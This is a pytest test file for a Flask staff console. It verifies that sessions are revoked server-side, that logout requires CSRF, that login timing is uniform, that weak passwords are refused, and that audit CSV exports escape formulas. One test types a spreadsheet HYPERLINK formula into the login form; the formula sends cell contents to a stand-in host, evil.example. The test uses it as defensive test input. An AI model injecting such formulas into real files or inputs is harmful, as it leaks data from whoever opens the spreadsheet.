"""Issue 13, findings 3, 12, 13 and 14: console sessions end on the server; a formula typed at the login form
stays inert in the audit CSV; logins tell nothing by their timing; weak passwords are refused.

The attack of finding 3: keep a copy of the session cookie, log out (or change the password), and open a
person page with the copy. The console's cookie is signed, not stored, so before this change the copy still
worked."""

from __future__ import annotations

import csv
import io
import re

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import Engine, select, update
from sqlalchemy.orm import Session

from core.db.models.staff import ConsoleSession, User
from core.domain.roles import Role
from core.services import audit_query, staff
from core.services.audit import Actor
from core.services.audit_query import AuditFilter
from tests.conftest import real_now
from tests.console.conftest import PASSWORD, USERS, Seed, login

COOKIE = "session"


def _person(seed: Seed) -> str:
    return f"/ledger/person/{seed.person_atena}"


def _cookie(client: FlaskClient) -> str:
    cookie = client.get_cookie(COOKIE)
    assert cookie is not None
    return cookie.value


def _with_cookie(console: Flask, value: str) -> FlaskClient:
    """Another browser that was handed a copy of a session cookie."""
    thief = console.test_client()
    thief.set_cookie(COOKIE, value)
    return thief


def _token(page: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', page)
    assert found is not None, "no CSRF token on the page"
    return found.group(1)


def _user(code: str, roles: set[Role], engine: Engine) -> None:
    with Session(engine) as s, s.begin():
        if s.scalar(select(User).where(User.staff_code == code)) is None:
            staff.create_user(s, code, "試験 太郎", PASSWORD, roles, Actor("test"))
        s.execute(
            update(User)
            .where(User.staff_code == code)
            .values(password_changed_at=User.created_at, active=True, locked_until=None, failed_logins=0)
        )


def test_a_copied_cookie_opens_nothing_after_logout(console: Flask, seed: Seed) -> None:
    with console.test_client() as client:
        assert login(client, USERS[Role.COUNTER]).status_code == 302
        assert client.get(_person(seed)).status_code == 200
        copy = _cookie(client)
        confirm = client.get("/logout")
        assert confirm.status_code == 200  # a link (or an <img> on another site) cannot log anyone out
        assert client.get(_person(seed)).status_code == 200
        assert client.post("/logout", data={"csrf_token": "forged"}).status_code == 400
        response = client.post("/logout", data={"csrf_token": _token(confirm.get_data(as_text=True))})
        assert response.status_code == 302
        assert "/login" in response.headers["Location"]
    replayed = _with_cookie(console, copy).get(_person(seed))
    assert replayed.status_code == 302
    assert "/login" in replayed.headers["Location"]


def test_a_password_change_ends_every_other_session(
    console: Flask, console_db: tuple[Engine, Engine, Seed], seed: Seed
) -> None:
    _user("SESS1", {Role.COUNTER}, console_db[0])
    other, changer = console.test_client(), console.test_client()
    assert login(other, "SESS1").status_code == 302
    assert login(changer, "SESS1").status_code == 302
    form = changer.get("/account/password").get_data(as_text=True)
    new = "a new and long passphrase 7"
    changed = changer.post(
        "/account/password",
        data={"csrf_token": _token(form), "current": PASSWORD, "new": new, "confirm": new},
    )
    assert changed.status_code == 302
    assert changer.get(_person(seed)).status_code == 200  # the session that made the change goes on
    assert other.get(_person(seed)).status_code == 302
    with Session(console_db[0]) as s, s.begin():
        staff.reset_password(s, "SESS1", PASSWORD, Actor("test"), real_now())
        ended = s.scalars(
            select(ConsoleSession.revoked_why).join(User).where(User.staff_code == "SESS1")
        ).all()
    assert changer.get(_person(seed)).status_code == 302  # an administrator's reset ends them all
    assert sorted(ended) == ["password changed", "password reset"]


@pytest.mark.parametrize("change", ["roles", "disable", "lockout"])
def test_roles_deactivation_and_lockout_end_the_users_sessions(
    console: Flask, console_db: tuple[Engine, Engine, Seed], seed: Seed, change: str
) -> None:
    code = f"SESS{change[:3].upper()}"
    _user(code, {Role.COUNTER}, console_db[0])
    client = console.test_client()
    assert login(client, code).status_code == 302
    assert client.get(_person(seed)).status_code == 200
    if change == "lockout":
        attacker = console.test_client()
        for _ in range(5):
            assert login(attacker, code, "not the password").status_code == 401
    else:
        with Session(console_db[0]) as s, s.begin():
            if change == "roles":
                staff.set_roles(s, code, {Role.ANALYST}, Actor("test"), real_now())
            else:
                staff.set_active(s, code, False, Actor("test"), real_now())
    assert client.get(_person(seed)).status_code == 302


def test_unknown_staff_ids_cost_a_password_check_like_known_ones(
    console: Flask, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A spy, not a mock: the real argon2 verification runs and is only counted. Timing itself is compared in
    # no unit test (noisy on a shared machine); one argon2 verification per login attempt is what makes them
    # equal.
    checked: list[str] = []
    real = staff._password_matches

    def counting(password_hash: str, password: str) -> bool:
        checked.append(password_hash)
        return real(password_hash, password)

    monkeypatch.setattr(staff, "_password_matches", counting)
    with console.test_client() as client:
        assert login(client, "NOSUCH9", "whatever it is").status_code == 401
        assert login(client, USERS[Role.ANALYST], "not the password").status_code == 401
    assert len(checked) == 2
    assert all(h.startswith("$argon2id$") for h in checked)


@pytest.mark.parametrize(
    ("password", "why"),
    [
        ("aaaaaaaaaa", "easy to guess"),
        (" " * 10, "easy to guess"),
        ("password123456", "easy to guess"),
        ("fujisawa2026!", "easy to guess"),
        ("試験太郎試験太郎試験太郎", "easy to guess"),
        ("short1!", "at least 10"),
        ("SESSPW1-long-enough", "staff ID"),
    ],
)
def test_weak_passwords_are_refused_on_the_password_page(
    console: Flask, console_db: tuple[Engine, Engine, Seed], password: str, why: str
) -> None:
    _user("SESSPW1", {Role.COUNTER}, console_db[0])
    with console.test_client() as client:
        assert login(client, "SESSPW1").status_code == 302
        form = client.get("/account/password").get_data(as_text=True)
        refused = client.post(
            "/account/password",
            data={"csrf_token": _token(form), "current": PASSWORD, "new": password, "confirm": password},
        )
        assert refused.status_code == 400
        assert why in refused.get_data(as_text=True)
    with console.test_client() as client:  # the old password still works: nothing changed
        assert login(client, "SESSPW1").status_code == 302


def test_a_formula_typed_as_staff_id_is_inert_in_the_audit_csv(
    console: Flask, console_db: tuple[Engine, Engine, Seed]
) -> None:
    attack = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
    with console.test_client() as client:
        assert login(client, attack, "whatever it is").status_code == 401
    with Session(console_db[1]) as s, s.begin():
        exported = audit_query.export_csv(s, AuditFilter(action="login_failed"), Actor("test"))
    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + attack in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
